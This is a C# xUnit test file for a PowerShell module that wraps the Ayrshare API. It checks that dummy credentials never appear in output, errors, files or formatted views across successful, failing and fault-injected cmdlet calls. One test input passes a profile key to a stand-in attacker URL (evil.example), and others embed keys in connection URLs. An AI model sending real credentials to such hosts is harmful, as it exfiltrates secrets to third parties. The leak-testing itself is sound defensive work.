using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Management.Automation;
using System.Text;
using Ayrshare.PowerShell.Tests.Hosting;
using Xunit;

namespace Ayrshare.PowerShell.Tests;

/// <summary>No credential shows in any stream, error, view or text, whatever goes well or wrong.</summary>
public sealed class SecretSweepTests : IDisposable
{
    private const string ApiKey = "SWEEP-api-key-0123456789";
    private const string XKey = "SWEEP-x-key-0123456789";
    private const string XSecret = "SWEEP-x-secret-0123456789";
    private const string WebhookSecret = "SWEEP-webhook-secret-0123456789";
    private const string WrongKey = "SWEEP-wrong-profile-key-01";

    // The link is what New-AyrshareJwt puts out, and what the sandbox shows in its outbox.
    private static readonly string[] Link = ["Url", "Token"];

    private readonly Session _session = new(Session.SecretManagement);
    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("ayrshare-sweep-");

    public SecretSweepTests() =>
        _session.Run(
            """
            $sandbox = Start-AyrshareSandbox -ApiKey $apiKey -PrivateKey $pem -TimeScale 1000 -Connect
            $x = @{ XApiKey = $xKey; XApiSecret = $xSecret }
            $key = $sandbox.AddProfile('Acme').ProfileKey
            $row = [pscustomobject]@{ Title = 'Acme'; Email = 'a@b.example'; ProfileKey = $key }
            Register-SecretVault Company; Set-Secret key $key
            Register-SecretVault Locked -Locked
            Register-SecretVault Failing -Failing
            """,
            ("apiKey", ApiKey), ("pem", TestKeys.Pem), ("xKey", XKey), ("xSecret", XSecret), ("wrongKey", WrongKey),
            ("hookSecret", WebhookSecret), ("journal", Path.Combine(_folder.FullName, "journal.jsonl")),
            ("wrongPath", Path.Combine(_folder.FullName, "none"))).ThrowIfFailed();

    public void Dispose()
    {
        _session.Dispose();
        _folder.Delete(recursive: true);
    }

    [Theory]
    [InlineData("New-AyrshareProfile Berta -Email b@c.example -Team")]
    [InlineData("New-AyrshareProfile Berta -Vault Company")]
    [InlineData("New-AyrshareProfile Berta -Vault Failing")]
    [InlineData("Get-AyrshareProfile")]
    [InlineData("Get-AyrshareProfile | Get-AyrshareProfile -Include suspension, quota")]
    [InlineData("Get-AyrshareUsage; Get-AyrshareUsage -ActionLog")]
    [InlineData("$row | Import-AyrshareProfileKey -Vault Company; $key | Import-AyrshareProfileKey -Vault Company -Force -WhatIf")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -Verify -ExpiresIn 30 @x")]
    [InlineData("$row | New-AyrshareJwt @x -Base64 -XInBody")]
    [InlineData("New-AyrshareJwt -ProfileKeySecret key")]
    [InlineData("$key | New-AyrshareJwt")]
    [InlineData("$row | New-AyrshareLinkSession @x -ExpiresIn 30")]
    [InlineData("$row | New-AyrshareLinkSession -SendEmail -Company Acme")]
    [InlineData("$row | New-AyrshareLinkSession | Get-AyrshareLinkSession")]
    [InlineData("$row | New-AyrshareLinkSession | Revoke-AyrshareLinkSession -PassThru")]
    [InlineData("$row | Send-AyrshareConnectEmail -Company Acme")]
    [InlineData("$row | New-AyrshareJwt | Send-AyrshareConnectEmail")]
    [InlineData("Test-AyrshareConnection -ProfileKey $key")]
    [InlineData("Connect-Ayrshare $apiKey -PrivateKey $pem -PassThru; Get-AyrshareConnection")]
    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | New-AyrshareJwt | Wait-AyrshareSocialAccount; $row | Wait-AyrshareSocialAccount "
        + "| New-AyrshareJwt")]
    [InlineData("Resolve-AyrshareError 146; New-AyrshareJwt -ProfileKey $wrongKey -ErrorAction SilentlyContinue; $Error[0] | "
        + "Resolve-AyrshareError")]
    [InlineData("Connect-Ayrshare $apiKey -Name Brand2 -PassThru; Get-AyrshareConnection | Format-Table; "
        + "Test-AyrshareConnection Brand2; \"$(Get-AyrshareConnection Brand2)\"; Disconnect-Ayrshare Brand2; Disconnect-Ayrshare -All")]
    [InlineData("Disconnect-Ayrshare")]
    [InlineData("$row | Invoke-AyrshareApi history @x; Invoke-AyrshareApi user -ProfileKey $key -Raw")]
    [InlineData("Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } -Query @{ "
        + "profileKey = $key } -ProfileKeySecret key")]
    [InlineData("[pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath "
        + "$journal -SendEmail; Get-AyrshareOnboarding $journal; Get-AyrshareOnboarding $journal -Refresh -Detailed -Vault Company")]
    [InlineData("$row, [pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Get-AyrshareOnboardingPlan -Vault Company "
        + "-JournalPath $journal -SendEmail")]
    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | Get-AyrshareSocialAccount; Get-AyrshareSocialAccount -ProfileKey $key | "
        + "Disconnect-AyrshareSocialAccount -PassThru")]
    [InlineData("$row | Disconnect-AyrshareSocialAccount -Network reddit -PassThru; Disconnect-AyrshareSocialAccount -PrimaryProfile "
        + "-Network reddit -Force -PassThru")]
    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Set-AyrshareProfile Berta -NewTitle Cafe -Vault Company -PassThru; "
        + "$row | Set-AyrshareProfile -Tags a -PassThru")]
    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Remove-AyrshareProfile Berta -Vault Company -RemoveSecret -Force "
        + "-PassThru; $row | Remove-AyrshareProfile -Force -PassThru")]
    [InlineData("$hook = @{ Url = 'https://a.example'; WebhookSecret = $hookSecret }; Register-AyrshareWebhook -Action social @hook; "
        + "$row | Register-AyrshareWebhook -Action feed @hook; Get-AyrshareWebhook; "
        + "$row | Get-AyrshareWebhook | Unregister-AyrshareWebhook -PassThru")]
    [InlineData("Set-Secret Ayrshare-WebhookSecret $hookSecret -Vault Company; "
        + "$null = Register-ObjectEvent $sandbox WebhookAttempted -SourceIdentifier attempted; "
        + "Register-AyrshareWebhook -Action social -Url http://127.0.0.1:9 -Vault Company; $sandbox.Link('Acme', 'gmb'); "
        + "$null = Wait-Event attempted -Timeout 60; "
        + "$sandbox.Deliveries[0] | ConvertFrom-AyrshareWebhook -Vault Company; $sandbox.Deliveries[0]")]
    public void In_success(string command) => AssertClean(command);

    [Theory]
    [InlineData("$row, @{ ProfileKey = $key } | New-AyrshareJwt -ExpiresIn 99999")]
    [InlineData("@{ Title = 'x'; ProfileKey = $key } | New-AyrshareJwt")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; ExpiresIn = @{ a = 1 } } | New-AyrshareJwt")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; ProfileKeySecret = 'x'; AllowedSocial = 'facbook' } | New-AyrshareJwt")]
    [InlineData("$row | Send-AyrshareConnectEmail -To broken")]
    [InlineData("$row | New-AyrshareJwt -ThrottleLimit many")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -ThrottleLimit 0")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -Connection text")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -Connection $apiKey; Connect-Ayrshare $apiKey -Name $apiKey")]
    [InlineData("Get-AyrshareConnection $apiKey; Test-AyrshareConnection $apiKey; Disconnect-Ayrshare $apiKey")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -NoSuchParameter $pem")]
    [InlineData("$wrongKey | New-AyrshareJwt")]
    [InlineData("$key | New-AyrshareProfile; $key | Get-AyrshareProfile")]
    [InlineData("$wrongKey | New-AyrshareLinkSession")]
    [InlineData("$row, @{ ProfileKey = $key } | New-AyrshareLinkSession -Network facbook")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; Mode = 'x'; ExpiresIn = @{ a = 1 } } | New-AyrshareLinkSession")]
    [InlineData("New-AyrshareLinkSession -ProfileKey $key -XApiKey $xKey")]
    [InlineData("Get-AyrshareLinkSession nope -ProfileKey $key; Revoke-AyrshareLinkSession nope -ProfileKey $wrongKey")]
    [InlineData("Get-AyrshareLinkSession ($row | New-AyrshareLinkSession).Url; Revoke-AyrshareLinkSession ($row | "
        + "New-AyrshareLinkSession).Token -Confirm:$false")]
    [InlineData("($row | New-AyrshareLinkSession).Token | Get-AyrshareLinkSession; ($row | New-AyrshareLinkSession).Url.AbsoluteUri | "
        + "Revoke-AyrshareLinkSession")]
    [InlineData("$row | New-AyrshareLinkSession -OutVariable link; $link | New-AyrshareJwt -Domain x -RedirectOrigin; $link | "
        + "Disconnect-AyrshareSocialAccount")]
    [InlineData("$row | New-AyrshareJwt -OutVariable link; $link | Get-AyrshareLinkSession; [pscustomobject]@{ Title = 'x'; Url = "
        + "$link[0].Url; Token = $link[0].Token } | Get-AyrshareLinkSession")]
    [InlineData("[pscustomobject]@{ RefId = $key; ProfileKey = $key; Network = $key; Redirect = $key } | Disconnect-AyrshareSocialAccount")]
    [InlineData("[pscustomobject]@{ RefId = $apiKey; ProfileKey = $key; Network = $key; Redirect = \"$key \" } | "
        + "Get-AyrshareSocialAccount -Network facbook")]
    [InlineData("@{ RefId = $wrongKey; ProfileKey = $wrongKey; Tags = $wrongKey; MessagingActive = $wrongKey } | Set-AyrshareProfile")]
    [InlineData("[pscustomobject]@{ RefId = $wrongKey; ProfileKey = $wrongKey; MessagingActive = $wrongKey } | Set-AyrshareProfile")]
    [InlineData("[pscustomobject]@{ ProfileKey = $apiKey; Email = $apiKey } | Send-AyrshareConnectEmail -To a@b.example")]
    [InlineData("New-AyrshareJwt -ProfileKey $apiKey")]
    [InlineData("[pscustomobject]@{ ProfileKey = $wrongKey } | Send-AyrshareConnectEmail -To a@b.example")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -PrivateKey ($pem -replace \"`n\", ' ')")]
    [InlineData("New-AyrshareJwt -ProfileKey $key -XApiKey \"$xKey`n$xSecret\"")]
    [InlineData("New-AyrshareJwt -ProfileKey \"$key`n$wrongKey\"")]
    [InlineData("New-AyrshareJwt -ProfileKey \"${key}é\"")]
    [InlineData("New-AyrshareJwt -ProfileKey @{ key = $key }")]
    [InlineData("[pscustomobject]@{ ProfileKey = @{ key = $key } } | New-AyrshareJwt")]
    [InlineData("New-AyrshareJwt -ProfileKeySecret nope; New-AyrshareJwt -ProfileKeySecret key -Vault Locked")]
    [InlineData("New-AyrshareJwt -ProfileKeySecret key -Vault Nowhere")]
    [InlineData("$row | New-AyrshareProfile -Vault Locked; $row | New-AyrshareProfile -Vault Nowhere")]
    [InlineData("$row | New-AyrshareProfile; $row | New-AyrshareProfile -DisableSocial x")]
    [InlineData(
        "[pscustomobject]@{ Title = ''; ProfileKey = $key }, [pscustomobject]@{ Title = $null; ProfileKey = $key } | New-AyrshareProfile")]
    [InlineData("$row | Get-AyrshareProfile -IncludesActiveSocialAccounts x; $row | Get-AyrshareProfile -PageSize 0")]
    [InlineData("Test-AyrshareConnection -ProfileKey $wrongKey; Test-AyrshareConnection -ProfileKey $key -Connection text")]
    [InlineData("Connect-Ayrshare $apiKey -PrivateKey $pem -TimeoutSec text")]
    [InlineData("Connect-Ayrshare $apiKey -PrivateKey $pem -PrivateKeyPath ./private.key")]
    [InlineData("Connect-Ayrshare $apiKey -XApiKey $xKey")]
    [InlineData("Connect-Ayrshare $apiKey -BaseUri https://user:$wrongKey@api.ayrshare.com")]
    [InlineData("Connect-Ayrshare $apiKey -BaseUri https://api.ayrshare.com?key=$wrongKey")]
    [InlineData("Connect-Ayrshare \"$apiKey`n$apiKey\"")]
    [InlineData("Connect-Ayrshare $apiKey -PrivateKeyPath $pem")]
    [InlineData("Connect-Ayrshare $apiKey -PrivateKeyPath ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($pem)))")]
    [InlineData("Connect-Ayrshare -Vault Locked; Connect-Ayrshare -ApiKeySecret nope")]
    [InlineData(
        "Connect-Ayrshare $wrongKey -BaseUri $sandbox.BaseUri; $row | New-AyrshareProfile; Test-AyrshareConnection; Get-AyrshareProfile")]
    [InlineData("$key | Resolve-AyrshareError; Resolve-AyrshareError $apiKey; Resolve-AyrshareError -Status $key; "
        + "Resolve-AyrshareError -ErrorRecord $key")]
    [InlineData("try { throw \"broken: $key\" } catch { $foreign = $_ }; $Error.Clear(); $foreign | Resolve-AyrshareError; "
        + "New-AyrshareJwt -ProfileKey \"$key`n$key\"; @($Error) | Resolve-AyrshareError")]
    [InlineData("$row | Wait-AyrshareSocialAccount -TimeoutSec 5; $row | Wait-AyrshareSocialAccount -TimeoutSec many; $wrongKey | "
        + "Wait-AyrshareSocialAccount")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; Network = 'facbook' }, [pscustomobject]@{ ProfileKey = @{ key = $key } } | "
        + "Wait-AyrshareSocialAccount -TimeoutSec 0")]
    [InlineData("$row | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal; $row | Invoke-AyrshareOnboarding -Vault Locked "
        + "-JournalPath $journal")]
    [InlineData("$row | Invoke-AyrshareOnboarding -Vault Failing -JournalPath $journal; Get-AyrshareOnboarding $wrongPath")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; Memo = $key; Note = $pem; Other = \"eyJhbGciOiJSUzI1NiJ9.$key\" } | "
        + "Get-AyrshareOnboardingPlan -Vault Company -JournalPath $journal; $row | Get-AyrshareOnboardingPlan -Vault Locked "
        + "-JournalPath $journal")]
    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); [pscustomobject]@{ Title = 'Berta' } | Invoke-AyrshareOnboarding -Vault "
        + "Company -JournalPath $journal")]
    [InlineData("Invoke-AyrshareApi https://evil.example/api/user?key=$key; Invoke-AyrshareApi \"user?profileKey=$key\"")]
    [InlineData("Invoke-AyrshareApi post -Method Post -Body \"{ 'profileKey': '$key'\"; Invoke-AyrshareApi post -Method Post -Body $pem")]
    [InlineData("$row | Invoke-AyrshareApi post -Method Post -Body @{ privateKey = $pem; a = { $key } }; $row | Invoke-AyrshareApi "
        + "history -Query @{ profileKey = @{ $key = 1 } }")]
    [InlineData("[pscustomobject]@{ ProfileKey = $wrongKey } | Invoke-AyrshareApi history; Invoke-AyrshareApi user -ProfileKey $apiKey")]
    [InlineData("$row | Invoke-AyrshareApi nosuch -Method Post -Body @{ profileKey = $wrongKey; privateKey = $pem } @x")]
    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Query @{ profileKey = $key } "
        + "-Body @{ profileKeys = $key, $wrongKey; nested = @{ twitterApiSecret = $xSecret } }")]
    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Body ('{ \"profileKey\": \"' + "
        + "$key + '\" }')")]
    [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -PrivateKey ($pem -replace 'A', '')")]
    [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -Port $sandbox.BaseUri.Port")]
    [InlineData("$row | Set-AyrshareProfile; @{ ProfileKey = $key } | Set-AyrshareProfile -Tags a; $row | Set-AyrshareProfile "
        + "-MessagingActive maybe -ThrottleLimit many")]
    [InlineData("[pscustomobject]@{ ProfileKey = $key; MessagingActive = @{ a = 1 }; Tags = 'a' } | Set-AyrshareProfile; $wrongKey | "
        + "Set-AyrshareProfile -Tags a")]
    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Set-Secret Ayrshare-ProfileKey-Cafe $wrongKey -Vault Company; "
        + "Set-AyrshareProfile Berta -NewTitle Cafe -Vault Company; Suspend-SecretVault -After 2 -Calls 1; "
        + "Set-AyrshareProfile Berta -NewTitle Dora -Vault Company")]
    [InlineData("$row | Remove-AyrshareProfile; $wrongKey | Remove-AyrshareProfile -Force")]
    [InlineData("[pscustomobject]@{ Title = 'Berta'; ProfileKey = $key } | Remove-AyrshareProfile -Force; $row | "
        + "Remove-AyrshareProfile -Force -RemoveSecret -Vault Locked")]
    [InlineData("$row | Get-AyrshareSocialAccount -Network x; $wrongKey | Get-AyrshareSocialAccount; $row | Get-AyrshareSocialAccount "
        + "-ThrottleLimit 0")]
    [InlineData("$row | Get-AyrshareSocialAccount -PrimaryProfile")]
    [InlineData("[pscustomobject]@{ Title = 'Berta'; ProfileKey = $key }, [pscustomobject]@{ Title = 'Acme'; RefId = $key; ProfileKey = "
        + "$key }, [pscustomobject]@{ Title = $key; ProfileKey = $key } | Import-AyrshareProfileKey -Vault Company")]
    [InlineData("$wrongKey, $apiKey, @{ ProfileKey = $key } | Import-AyrshareProfileKey -Vault Company; $row | "
        + "Import-AyrshareProfileKey -Vault Locked; $row | Import-AyrshareProfileKey -Vault Failing")]
    [InlineData("Set-Secret Ayrshare-ProfileKey-Acme $wrongKey -Vault Company; $row | Import-AyrshareProfileKey -Vault Company")]
    [InlineData("$row | Disconnect-AyrshareSocialAccount; $wrongKey | Disconnect-AyrshareSocialAccount -Network gmb; "
        + "Disconnect-AyrshareSocialAccount -Network gmb -ProfileKey $apiKey")]
    [InlineData("$row | Disconnect-AyrshareSocialAccount -Network gmb -PrimaryProfile -Force")]
    [InlineData("Disconnect-AyrshareSocialAccount -Network gmb -PrimaryProfile -ProfileKey $key")]
    [InlineData("$row | Register-AyrshareWebhook -Action x -Url $key -WebhookSecret $hookSecret; "
        + "$wrongKey | Register-AyrshareWebhook -Action feed -Url https://a.example -Secret $hookSecret; "
        + "[pscustomobject]@{ WebhookSecret = $hookSecret; Action = $hookSecret } | Register-AyrshareWebhook")]
    [InlineData("Register-AyrshareWebhook -Action feed -Url https://a.example -WebhookSecret @{ a = $hookSecret }; "
        + "Register-AyrshareWebhook -Action feed -Url https://a.example -Secret $hookSecret -ThrottleLimit many")]
    [InlineData("$wrongKey | Get-AyrshareWebhook; $wrongKey | Unregister-AyrshareWebhook -Action feed; $row | Unregister-AyrshareWebhook")]
    [InlineData("ConvertFrom-AyrshareWebhook @{} '{}' -WebhookSecret $hookSecret, $xSecret; ConvertFrom-AyrshareWebhook @{ "
        + "'X-Authorization-Content-SHA256' = 'x' } '{}' -WebhookSecret $hookSecret; ConvertFrom-AyrshareWebhook @{} @{ a = $hookSecret } "
        + "-Secret $hookSecret; ConvertFrom-AyrshareWebhook @{} '{}' -Secret @{ a = $hookSecret }")]
    public void In_failure(string command)
    {
        var result = AssertClean(command);

        Assert.True(result.Errors.Count > 0 || command.Contains("Test-AyrshareConnection"), "Nothing failed.");
    }

    [Theory]
    [InlineData("@{ Kind = 'EchoSecrets' }")]
    [InlineData("@{ Kind = 'Status'; Status = 400 }")]
    [InlineData("@{ Kind = 'Status'; Status = 401 }")]
    [InlineData("@{ Kind = 'Status'; Status = 403 }")]
    [InlineData("@{ Kind = 'Status'; Status = 404 }")]
    [InlineData("@{ Kind = 'Status'; Status = 429; Count = 2 }")]
    [InlineData("@{ Kind = 'Status'; Status = 500 }")]
    [InlineData("@{ Kind = 'Status'; Status = 503; RetryAvailable = $true }")]
    [InlineData("@{ Kind = 'DropBefore' }")]
    [InlineData("@{ Kind = 'DropAfter' }")]
    [InlineData("@{ Kind = 'HalfBody' }")]
    [InlineData("@{ Kind = 'MalformedBody' }")]
    [InlineData("@{ Kind = 'HtmlBody' }")]
    [InlineData("@{ Kind = 'OtherEncoding' }")]
    public void When_the_server_fails(string fault)
    {
        _session.Run($"$sandbox.AddFault({fault})").ThrowIfFailed();

        foreach (var command in new[]
        {
            "$row | New-AyrshareProfile",
            "Get-AyrshareProfile",
            "Get-AyrshareUsage",
            "$row, $row | New-AyrshareJwt @x -Base64 -XInBody",
            "$row | New-AyrshareJwt @x -Verify",
            "$row | Send-AyrshareConnectEmail @x",
            "$row | New-AyrshareLinkSession @x -SendEmail",
            "$row | New-AyrshareLinkSession @x -OutVariable link",
            "$link | Get-AyrshareLinkSession",
            "$link | Revoke-AyrshareLinkSession -PassThru",
            "Test-AyrshareConnection -ProfileKey $key",
            "$row | Wait-AyrshareSocialAccount -TimeoutSec 10",
            "Resolve-AyrshareError 146",
            "$row | Invoke-AyrshareApi history @x",
            "$row | Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } @x",
            "$row | Set-AyrshareProfile -Tags a",
            "$row | Import-AyrshareProfileKey -Vault Company",
            "$row | Get-AyrshareSocialAccount",
            "$row | Disconnect-AyrshareSocialAccount -Network gmb",
            "$row | Register-AyrshareWebhook -Action social -Url https://a.example -WebhookSecret $hookSecret",
            "$row | Get-AyrshareWebhook",
            "$row | Unregister-AyrshareWebhook -Action social",
            "$row | Remove-AyrshareProfile -Force",
        })
            AssertClean(command);
    }

    [Fact]
    public void A_new_key_that_was_asked_for_is_in_the_output_alone()
    {
        var result = _session.Run("$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; Invoke-AyrshareApi profiles -Method "
            + "Post -Body @{ title = 'Raw' }").ThrowIfFailed();

        var key = (string)result.Only.Properties["profileKey"].Value;
        Assert.Equal(key, $"{_session.Run("($sandbox.Profiles | Where-Object Title -eq Raw).ProfileKey").Only}");
        AssertWithout([.. Secrets, key], result.Everything());
    }

    [Fact]
    public void On_the_screen()
    {
        using var session = new Session();
        session.Runspace.SessionStateProxy.SetVariable("apiKey", ApiKey);
        session.Runspace.SessionStateProxy.SetVariable("pem", TestKeys.Pem);

        var screen = session.Format("""
            $sandbox = Start-AyrshareSandbox -ApiKey $apiKey -PrivateKey $pem -Connect
            $sandbox
            New-AyrshareProfile Acme -OutVariable created
            $row = [pscustomobject]@{ Title = 'Acme'; ProfileKey = $sandbox.Profiles[0].ProfileKey }
            $null = $created | Send-AyrshareConnectEmail -To a@b.example
            Get-AyrshareProfile
            Get-AyrshareConnection
            Test-AyrshareConnection
            (Test-AyrshareConnection).Checks
            $sandbox.Profiles
            $sandbox.Outbox
            $sandbox.Requests
            $http = [System.Net.Http.HttpClient]::new()
            $http.DefaultRequestHeaders.Add('Authorization', "Bearer $apiKey")
            $http.DefaultRequestHeaders.Add('Profile-Key', $row.ProfileKey)
            $null = $http.PostAsync("$($sandbox.BaseUri)/profiles/link-sessions", $null).GetAwaiter().GetResult()
            $sandbox.LinkSessions
            $row | New-AyrshareJwt -ExpiresIn no
            $row | New-AyrshareProfile
            Connect-Ayrshare $apiKey -PrivateKey $pem -TimeoutSec text
            """);
        var key = session.Format("$sandbox.Profiles[0].ProfileKey; Stop-AyrshareSandbox $sandbox").Trim();

        Assert.Contains("Acme", screen);
        Assert.Contains("is not a number of minutes", screen);
        Assert.Contains("SessionId", screen);
        AssertWithout([.. Secrets, key, "eyJ", "ayr_ls_"], screen);
    }

    private static IEnumerable<string> Secrets =>
    [
        ApiKey, XKey, XSecret, WrongKey, WebhookSecret,
        .. TestKeys.Pem.Split('\n').Where(line => line.Length > 10 && !line.StartsWith("---", StringComparison.Ordinal)),
        Convert.ToBase64String(Encoding.UTF8.GetBytes(TestKeys.Pem))[..40],
    ];

    private RunResult AssertClean(string command)
    {
        var result = _session.Run($"$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; $Error.Clear(); {command}");

        var links = result.Output.SelectMany(output => Link.Select(name => output.Properties[name]?.Value?.ToString()).OfType<string>());
        var made = _session.Run(
            "$sandbox.Profiles.ProfileKey; $sandbox.Outbox.Link; "
            + "$sandbox.LinkSessions | ForEach-Object { $_.Url; $_.Url.Query.Substring(9) }");
        string[] secrets = [.. Secrets, .. made.Output.Where(secret => secret is not null).Select(secret => secret.ToString()), .. links];
        AssertWithout(secrets, result.Everything());
        foreach (var file in _folder.EnumerateFiles())
            AssertWithout(secrets, File.ReadAllText(file.FullName));
        foreach (var error in _session.Run("$Error").Output.Concat(result.Errors.Select(PSObject.AsPSObject)))
            AssertWithout(secrets, Leak.Text(error));
        foreach (var output in result.Output)
        {
            AssertWithout(secrets, output.ToString());
            AssertWithout(secrets, Leak.Text(output, Link));
        }

        return result;
    }

    private static void AssertWithout(IEnumerable<string> secrets, string text)
    {
        foreach (var secret in secrets)
        {
            var at = text.IndexOf(secret, StringComparison.Ordinal);
            Assert.True(
                at < 0,
                at < 0 ? "" : $"A credential shows: …{text[Math.Max(0, at - 200)..Math.Min(text.Length, at + secret.Length + 50)]}");
        }
    }
}
